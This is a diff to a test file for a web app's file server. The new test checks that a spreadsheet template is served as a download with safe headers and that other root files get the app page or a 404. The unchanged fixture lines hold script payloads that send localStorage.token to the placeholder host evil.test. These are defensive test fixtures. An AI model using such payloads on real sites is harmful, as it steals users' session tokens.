@@ -20,6 +20,7 @@ const OPUS = Buffer.concat([Buffer.from('OggS'), Buffer.alloc(24), Buffer.from('
 const HTML = Buffer.from('<!doctype html><script>fetch("//evil.test/?t=" + localStorage.token)</script>');
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>');
 const SCRIPT = Buffer.from('fetch("//evil.test/?t=" + localStorage.token)');
+const TEMPLATE = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(64, 1)]);
 
 describe('the web app', () => {
   let t: TestApp;
@@ -39,6 +40,8 @@ describe('the web app', () => {
     };
     built(join(webDir, 'index.html'), page);
     built(join(webDir, 'assets', 'app-1234.js'), app);
+    writeFileSync(join(webDir, 'modelo-contatos.xlsx'), TEMPLATE);
+    writeFileSync(join(webDir, 'notes.txt'), 'not a download');
     t = await startTestApp({ WEB_DIR: webDir });
   });
   afterAll(async () => {
@@ -61,6 +64,20 @@ describe('the web app', () => {
     expect(directives.get('frame-src')).toEqual(['https://www.youtube-nocookie.com']);
     expect(res.headers.get('x-frame-options')).toBe('DENY');
     expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+  });
+
+  it('serves the spreadsheets the build puts at the root as downloads, to a link a browser follows too', async () => {
+    for (const accept of ['text/html,application/xhtml+xml', '*/*']) {
+      const res = await get('/modelo-contatos.xlsx', { accept });
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+      expect(res.headers.get('content-disposition')).toBe('attachment; filename="modelo-contatos.xlsx"');
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(Buffer.from(await res.arrayBuffer())).toEqual(TEMPLATE);
+    }
+    // Other files at the root are not served: a browser gets the app, anyone else a 404.
+    expect(await (await get('/notes.txt', { accept: 'text/html' })).text()).toBe(page);
+    expect((await get('/notes.txt', { accept: '*/*' })).status).toBe(404);
   });
 
   it('sends the page and the assets precompressed: brotli first, then gzip, else as they are', async () => {
